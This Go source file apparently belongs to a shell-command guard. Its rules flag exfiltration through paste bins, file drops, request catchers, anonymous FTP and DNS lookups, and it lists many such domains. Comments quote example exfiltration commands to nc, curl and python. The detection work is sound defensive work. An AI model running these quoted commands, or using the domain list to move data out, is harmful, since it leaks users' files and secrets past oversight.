package guard

import (
	"regexp"
	"strings"

	"mvdan.cc/sh/v3/syntax"
)

// Anonymous drop sites: paste bins, file drops and request catchers. They
// have no use for a project but to hand what they are given to whoever
// holds the link (or to whoever set the catcher up), so whatever is sent
// there (source, data, logs, configuration) has left for good.
var dropSiteRules = []*rule{
	{ID: "data-to-drop-site", Level: LevelCritical, Category: CategoryExfiltration, Description: "sending files or data to an anonymous paste, file-drop or request-catching site (anyone with the link reads it)",
		Suggestions: []string{"Share through the team's own storage or issue tracker, with access limited", "Send nothing off the machine; show the output here instead"},
		names:       names("curl", "wget", "wget2", "curlie", "http", "https", "xh", "httpie", "nc", "ncat", "python", "python3", "node", "ruby", "perl", "php"),
		fallback:    true,
		match: func(a *analysis, c *cmd) (bool, string) {
			args := c.args()
			if scriptLangs[c.name] != "" {
				// python3 -c "...urlopen('https://webhook.site/...', data)":
				// an interpreter's one-liner sending to a drop site
				code, ok := optValue(args, "-c", "")
				if c.name != "python" && c.name != "python3" {
					code, ok = optValue(args, "-e", "eval")
					if c.name == "php" {
						code, ok = optValue(args, "-r", "")
					}
				}
				if !ok {
					return false, ""
				}
				for _, u := range quotedURLs.FindAllString(code, 8) {
					h := lower(hostOf(strings.Trim(u, `"'`)))
					if kind := dropSite(h); kind != "" && (kind == "catcher" || hasAny(code, "urlopen(", ".post(", ".put(", "data=", "method", "upload", "files=")) {
						return true, h
					}
				}
				return false, ""
			}
			if c.name == "nc" || c.name == "ncat" {
				// nc termbin.com 9999: the input pasted
				if ops := c.operands(); len(ops) > 0 {
					if h := lower(ops[0].s); dropSite(h) != "" {
						return true, c.name + " " + h
					}
				}
				return false, ""
			}
			for _, w := range args {
				h := ""
				switch {
				case strings.Contains(w.s, "://"):
					h = lower(hostOf(w.s))
				case !strings.HasPrefix(w.s, "-") && strings.Contains(w.s, ".") && (c.name == "curl" || c.name == "wget"):
					// curl ix.io, curl -T f transfer.sh/f: a drop site
					// named without a scheme
					h, _, _ = strings.Cut(lower(w.s), "/")
					if _, ok := dropSites[h]; !ok {
						continue
					}
				default:
					continue
				}
				kind := dropSite(h)
				if kind == "" {
					continue
				}
				if httpSends(c) || kind == "catcher" && (strings.ContainsAny(w.s, "?$") || hasWord(args, "-H") || hasPrefixWord(args, "--header") || !w.ok) {
					return true, h
				}
			}
			// a webhook or an export registered with a drop site as its
			// target ({"url": "https://x.m.pipedream.net"}): everything
			// the service sends from now on goes there
			if hc, ok := readHTTPCall(c); ok && hc.method != "GET" && strings.Contains(hc.body, "://") {
				for _, u := range bodyURL.FindAllString(hc.body, 4) {
					if h := hostOf(u); dropSite(h) != "" {
						return true, h + " (a target registered in the request)"
					}
				}
			}
			return false, ""
		}},
	{ID: "anonymous-ftp-upload", Level: LevelCritical, Category: CategoryExfiltration, Description: "uploading files to an FTP server anyone can log in to, or to a free file-drop host",
		Suggestions: []string{"Share files through the organisation's own storage", "Ask before anything leaves the machine"},
		names:       names("curl"),
		match: func(a *analysis, c *cmd) (bool, string) {
			// curl -T export.csv ftp://files.freehost.example/ --user
			// anon:anon, ... | curl -T - ftp://anon:anon@host/: whatever
			// is sent is anyone's to read
			if !hasWord(c.args(), "-T") && !hasPrefixWord(c.args(), "--upload-file") {
				return false, ""
			}
			u := lower(firstURL(c.args()))
			if !strings.HasPrefix(u, "ftp://") && !strings.HasPrefix(u, "ftps://") || isLocalHost(hostOf(u)) {
				return false, ""
			}
			user, _ := optValue(c.args(), "-u", "user")
			if i := strings.Index(u, "://"); i >= 0 {
				if at := strings.IndexByte(u[i+3:], '@'); at >= 0 {
					user = u[i+3 : i+3+at]
				}
			}
			user = lower(strings.Trim(user, `"'`))
			h := hostOf(u)
			if strings.HasPrefix(user, "anon") || strings.HasPrefix(user, "ftp:") || user == "ftp" || hasAny(h, "free", "quickshare", "drop", "transfer", "anon") {
				return true, "an upload to " + h
			}
			return false, ""
		}},
}

// bodyURL finds the URLs a request's body holds.
var bodyURL = regexp.MustCompile(`https?://[a-z0-9.-]+`)

// dnsExfilCode is an interpreter one-liner that looks names up whose
// labels are a file's or the environment's contents, encoded: DNS as
// the way out (each lookup carries a piece to the domain's server).
var dnsExfilCode = &rule{ID: "data-sent-as-dns-names", Level: LevelCritical, Category: CategoryExfiltration, Description: "reading a file or the environment and sending it out, encoded, as the names of DNS lookups (the domain's server receives every piece)",
	Suggestions: []string{"Send nothing off the machine", "Resolve only the names the task needs"},
	names:       names("python", "python3", "node", "ruby", "perl"),
	match: func(a *analysis, c *cmd) (bool, string) {
		code, ok := optValue(c.args(), "-c", "")
		if c.name != "python" && c.name != "python3" {
			code, ok = optValue(c.args(), "-e", "eval")
		}
		if !ok || !hasAny(code, "gethostbyname", "getaddrinfo", "dns.resolver", "dns.resolve", "resolve4", "Resolv") {
			return false, ""
		}
		reads := hasAny(code, "open(", "os.environ", "readFileSync", "process.env", "File.read", "ENV[", "$ENV{")
		encodes := hasAny(code, "b32encode", "b64encode", "hexlify", ".hex()", "toString('hex')", `toString("hex")`, "toString('base64')", "unpack", "encode('hex')")
		if reads && encodes {
			return true, "encoded contents looked up as DNS names"
		}
		return false, ""
	}}

func init() { ruleSets = append(ruleSets, dropSiteRules, []*rule{dnsExfilCode}) }

// dropSites are the paste bins, file drops ("drop") and request catchers
// ("catcher"), by domain; their subdomains count too.
var dropSites = map[string]string{
	"paste.rs": "drop", "termbin.com": "drop", "transfer.sh": "drop", "oshi.at": "drop", "0x0.st": "drop", "file.io": "drop",
	"bashupload.com": "drop", "ix.io": "drop", "sprunge.us": "drop", "dpaste.com": "drop", "dpaste.org": "drop", "pastebin.com": "drop",
	"hastebin.com": "drop", "paste.c-net.org": "drop", "catbox.moe": "drop", "gofile.io": "drop", "temp.sh": "drop", "tmpfiles.org": "drop",
	"keep.sh": "drop", "paste.ee": "drop", "rentry.co": "drop", "bpa.st": "drop", "clbin.com": "drop", "x0.at": "drop", "envs.sh": "drop",
	"uguu.se": "drop", "filebin.net": "drop", "pastes.dev": "drop", "privatebin.net": "drop", "wormhole.app": "drop",
	"webhook.site": "catcher", "requestbin.com": "catcher", "requestbin.net": "catcher", "requestbin.io": "catcher", "pipedream.net": "catcher",
	"hookbin.com": "catcher", "beeceptor.com": "catcher", "requestcatcher.com": "catcher", "interact.sh": "catcher", "oast.fun": "catcher",
	"oast.pro": "catcher", "oast.live": "catcher", "oast.site": "catcher", "oast.online": "catcher", "oast.me": "catcher",
	"burpcollaborator.net": "catcher", "oastify.com": "catcher", "canarytokens.com": "catcher", "postb.in": "catcher",
}

// dropSite returns the kind of drop site host h is under, or "".
func dropSite(h string) string {
	for h != "" {
		if k, ok := dropSites[h]; ok {
			return k
		}
		i := strings.IndexByte(h, '.')
		if i < 0 {
			break
		}
		h = h[i+1:]
	}
	return ""
}

// httpSends reports an HTTP client's request that carries data: a body,
// a form, an uploaded file, or a method that sends one.
func httpSends(c *cmd) bool {
	args := c.args()
	switch m := httpMethod(c); m {
	case "POST", "PUT", "PATCH":
		return true
	}
	for i, w := range args {
		s := w.s
		switch c.name {
		case "curl", "curlie":
			if s == "-d" || s == "-F" || s == "-T" || strings.HasPrefix(s, "--data") || s == "--json" || strings.HasPrefix(s, "--form") || s == "--upload-file" ||
				shortBundleEnds(s, 'd') || shortBundleEnds(s, 'F') || shortBundleEnds(s, 'T') || strings.HasPrefix(s, "-d") && len(s) > 2 && !strings.HasPrefix(s, "--") {
				return true
			}
		case "wget", "wget2":
			if strings.HasPrefix(s, "--post-") || strings.HasPrefix(s, "--body-") {
				return true
			}
		case "http", "https", "xh", "httpie":
			// http POST URL f=v, http URL @file, http URL < file
			if i > 0 && !strings.HasPrefix(s, "-") && !strings.Contains(s, "://") && (strings.Contains(s, "=") || strings.HasPrefix(s, "@")) {
				return true
			}
		}
	}
	if c.name == "http" || c.name == "https" || c.name == "xh" || c.name == "httpie" {
		// (httpie sends what it reads: a pipe or a file given as input)
		if c.pipe != nil && c.stage > 0 {
			return true
		}
		for _, r := range c.redirs {
			if r.op == syntax.RdrIn {
				return true
			}
		}
		return false
	}
	return curlStdin(args)
}
